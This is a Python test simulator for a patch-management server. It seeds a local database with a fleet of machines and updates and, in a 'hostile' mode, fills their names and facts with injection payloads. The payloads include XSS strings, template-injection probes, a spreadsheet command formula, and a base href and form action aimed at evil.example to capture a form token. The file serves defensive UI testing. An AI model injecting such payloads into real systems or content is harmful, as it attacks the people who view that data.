"""A running server with a fleet in its database: the demonstration's, smaller; no agent runs.

    python -m tests.simulator.furnished HOME PORT MACHINES [hostile]

It says where it is by one JSON line and serves until its standard input ends. `hostile`: machines
and updates have names and facts full of markup.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import subprocess
import sys
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, replace
from hashlib import sha256
from pathlib import Path

from patchtide.entry.server.demo.furnish import furnish
from patchtide.entry.server.demo.releases import details_of, releases
from patchtide.entry.server.node import Server
from patchtide.entry.server.serving import running
from patchtide.entry.server.settings import read_settings
from patchtide.server.ports.clients import Client
from patchtide.server.ports.reports import HeldInventory
from patchtide.wire.inventory import HardwareV1, hardware, package_list

UPDATES = 160

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '"><svg onload=alert(3)>',
    "' onmouseover='alert(4)",
    "{{7*7}}",
    "{% include 'x' %}",
    "<%= 7*7 %>",
    "${7*7}",
    "javascript:alert(5)",
    "=cmd|' /C calc'!A0",
    "<iframe src=javascript:alert(6)></iframe>",
    "<base href=//evil.example>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=form_token>",
    "</title></head><script>alert(7)</script>",
    "<div hx-get='/sign-out' hx-trigger='load' hx-on:click='alert(8)'>",
    "\u202egnp.exe",
    "a" * 120,
)
"""What a machine or a feed may call itself to harm whoever reads it."""


async def fill(server: Server, *, machines: int, hostile: bool) -> None:
    now = server.context.clock.now()
    details = list(map(details_of, releases(UPDATES, now=now)))
    names: Sequence[str] = ()
    if hostile:
        names = HOSTILE
        details[-len(HOSTILE) :] = [
            replace(one, title=text, description=text, cves=(text,), vendor_id=text)
            for one, text in zip(details[-len(HOSTILE) :], HOSTILE, strict=True)
        ]
    clients = await furnish(server, machines=machines, details=details, names=names)
    for client, text in zip(clients, names, strict=False):
        facts = HardwareV1(
            host_name=text, system=text, kernel=text, model=text, addresses=(text,),
            services=(text,),
        )  # fmt: skip
        await _give(server, client, "hardware", hardware(facts))
        await _give(server, client, "packages", package_list([(text, text, text)]))


async def _give(server: Server, client: Client, kind: str, body: bytes) -> None:
    digest, now = sha256(body).digest(), server.context.clock.now().timestamp()
    number = client.number
    await server.storage.put_inventory(number, kind=kind, digest=digest, body=body, now=now)
    await server.storage.hold_inventory(
        [HeldInventory(client=number, kind=kind, digest=digest, at=now)]
    )


async def _serve(home: str, port: str, machines: str, *more: str) -> None:
    settings = read_settings(["--home", home, "--port", port, "--host", "127.0.0.1"], {})
    async with running(settings) as server:
        if server.code:
            await fill(server, machines=int(machines), hostile=more == ("hostile",))
        sys.stdout.write(json.dumps({"port": server.port, "code": server.code}) + "\n")
        sys.stdout.flush()
        await asyncio.to_thread(sys.stdin.read)


@dataclass(frozen=True, slots=True)
class Furnished:
    """Where such a server is, and how it is claimed."""

    url: str
    code: str


@contextlib.contextmanager
def furnished(home: Path, machines: int, *, hostile: bool = False) -> Iterator[Furnished]:
    """Run it as a process within the block."""
    root = Path(__file__).parents[2]
    command = [sys.executable, "-m", "tests.simulator.furnished", str(home), "0", str(machines)]
    process = subprocess.Popen(
        [*command, "hostile"] if hostile else command,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        cwd=root,
        env={**os.environ, "PYTHONPATH": f"{root / 'src'}:{root}"},
        text=True,
    )
    try:
        assert process.stdout is not None
        said = json.loads(process.stdout.readline())
        yield Furnished(url=f"https://127.0.0.1:{said['port']}", code=said["code"])
    finally:
        process.communicate(input="", timeout=30)


if __name__ == "__main__":
    asyncio.run(_serve(*sys.argv[1:]))
